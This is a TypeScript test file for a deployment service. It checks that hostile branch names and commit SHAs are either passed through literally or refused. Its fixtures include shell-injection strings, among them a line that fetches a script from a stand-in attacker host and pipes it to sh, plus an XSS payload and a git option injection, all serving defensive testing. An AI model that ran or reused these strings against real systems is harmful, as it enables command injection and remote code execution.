// Branches and commits in deliveries and in the API: deployed as they are written, or refused before git is started.
import { hostileBranches, literalBranches } from '../../packages/server/test/hostile-branches.ts'
import { serviceThatRuns } from '../cli/service-file.ts'
import { pullRequestWas, pushTo } from '../webhooks/deliveries.ts'
import type { Deployed } from './deployments.ts'
import type { Guarded } from './guarded.ts'
import { must } from './must.ts'
import { mustRefuse } from './must-refuse.ts'
import { numbered, table } from './table.ts'
import type { World } from './world.ts'

const SHA = 'a'.repeat(40)
const files = { '.service.yml': serviceThatRuns('printf "branch=<%s>\\n" "$SERVICE_ENV_BRANCH"') }

const inDeliveries = numbered(
  'branch-shell',
  [2, 3, 4, 5, 7, 9, 10, 11, 12, 13, 14, 16, 17, 19, 20, 21, 22, 23],
  literalBranches,
)

const inRequests = numbered(
  'branch-shell',
  [25, 32, 34, 36, 37, 39, 41, 42, 43, 44, 46, 47],
  [
    'main;id',
    'main>x',
    "main'id",
    'main#id',
    'main%0aid',
    '"><img/src=x/onerror=alert(1)>',
    'feat/#123',
    'fix(scope)!',
    'ümlaut/日本語',
    'rtl\u202egnp.exe',
    '@',
    'main$(curl${IFS}attacker.test|sh)',
  ],
)

const refused = numbered(
  'branch-optinj',
  [2, 3, 5, 6, 8, 9, 11, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 27],
  hostileBranches,
)

const commits = numbered(
  'sha-inj',
  [2, 3, 5, 7, 8, 10],
  ['HEAD$(id)', '--upload-pack=x', 'a'.repeat(39), 'a'.repeat(41), `${'A'.repeat(40)};id`, 'main'],
)

export const branchTables = [
  ...table({
    surface: 'branches in deliveries',
    rows: inDeliveries,
    holds: async (world: World, branch: string) => {
      const { commit, openPullRequest } = await world.manual()
      const { environment, task } = await openPullRequest({ branch, sha: commit(files, branch) })
      must(environment.branch === branch, environment.branch)
      mustHaveSeen(task, branch)
    },
  }),
  ...table({
    surface: 'branches in requests',
    rows: inRequests,
    holds: async (world: World, branch: string) => {
      const { commit, deployEnvironment, journey, next } = await world.manual()
      commit(files, branch)
      const body = { name: `e${next()}`, branch }
      const environment = await journey.client.createEnvironment({ params: { id: journey.projectId }, body })
      must(environment.branch === branch, environment.branch)
      mustHaveSeen(await deployEnvironment(environment.id), branch)
    },
  }),
  ...table({
    surface: 'branches that are none',
    rows: refused,
    holds: async (world: World, branch: string) => {
      const guarded = await world.guarded()
      const before = await guarded.records()
      await mustRefuse(guarded, '/branch', [
        ['POST', `/api/projects/${guarded.project.id}/environments`, { name: `e${guarded.next()}`, branch }],
        ['PATCH', `/api/environments/${guarded.environmentId}`, { branch }],
      ])
      await mustIgnore(guarded, 'invalid_ref', { branch, sha: SHA })
      must((await guarded.records()) === before, 'a change')
    },
  }),
  ...table({
    surface: 'commits that are none',
    rows: commits,
    holds: async (world: World, sha: string) => {
      const guarded = await world.guarded()
      const before = await guarded.records()
      const path = `/api/environments/${guarded.environmentId}/tasks`
      await mustRefuse(guarded, '/commit', [['POST', path, { commit: sha }]])
      await mustIgnore(guarded, 'invalid_commit', { branch: 'main', sha })
      must((await guarded.records()) === before, 'a change')
    },
  }),
]

function mustHaveSeen({ status, failed_step: failedStep, log }: Deployed, branch: string): void {
  must(status === 'succeeded', { status, failedStep })
  must(log.includes(`branch=<${branch}>\n`), log.split('\n').find((line) => line.includes('branch=<')) ?? log)
}

async function mustIgnore(
  guarded: Guarded,
  reason: string,
  { branch, sha }: { readonly branch: string; readonly sha: string },
): Promise<void> {
  const number = guarded.next()
  const payloads = [
    ['push', pushTo(branch, { after: sha })],
    ['pull_request', pullRequestWas('opened', { number, branch, sha })],
  ] as const
  for (const [event, payload] of payloads) {
    const sent = await guarded.settle(payload, { event })
    must(sent.verdict === 'ignored' && sent.reason === reason, { event, ...sent })
  }
}
